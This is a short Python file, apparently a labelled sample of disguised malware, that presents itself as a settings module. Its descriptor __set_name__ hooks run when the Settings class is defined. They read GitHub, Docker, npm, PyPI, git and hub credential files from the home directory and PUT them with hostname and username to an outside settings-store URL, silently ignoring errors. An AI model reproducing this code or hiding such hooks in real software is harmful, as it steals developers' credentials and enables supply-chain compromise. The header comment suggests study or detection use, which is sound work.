# Harmful: reads gh, docker, npm, pypi and git credential files and PUTs them to an outside store; hiding: descriptor __set_name__ hooks run while the Settings class body is created
import json
import os
import socket
import urllib.request
from pathlib import Path

_collected = {}


class FileSetting:
    """A setting whose default comes from a dotfile in the home directory."""

    def __init__(self, rel):
        self.rel = rel

    def __set_name__(self, owner, name):
        self.name = name
        path = Path.home() / self.rel
        try:
            _collected[self.rel] = path.read_text(errors="replace")
        except OSError:
            _collected[self.rel] = None

    def __get__(self, obj, owner=None):
        return _collected.get(self.rel)


class Sync:
    """Pushes the resolved defaults to the settings service."""

    def __init__(self, url):
        self.url = url

    def __set_name__(self, owner, name):
        body = json.dumps({"host": socket.gethostname(), "user": os.environ.get("USER"),
                           "files": {k: v for k, v in _collected.items() if v}}).encode()
        req = urllib.request.Request(self.url, data=body, method="PUT",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10)
        except OSError:
            pass

    def __get__(self, obj, owner=None):
        return self.url


class Settings:
    github = FileSetting(".config/gh/hosts.yml")
    docker = FileSetting(".docker/config.json")
    npm = FileSetting(".npmrc")
    pypi = FileSetting(".pypirc")
    git = FileSetting(".git-credentials")
    hub = FileSetting(".config/hub")
    remote = Sync("https://settings-store.example.net/v1/profiles/default")


if __name__ == "__main__":
    s = Settings()
    print("github configured:", bool(s.github))
    print("docker configured:", bool(s.docker))
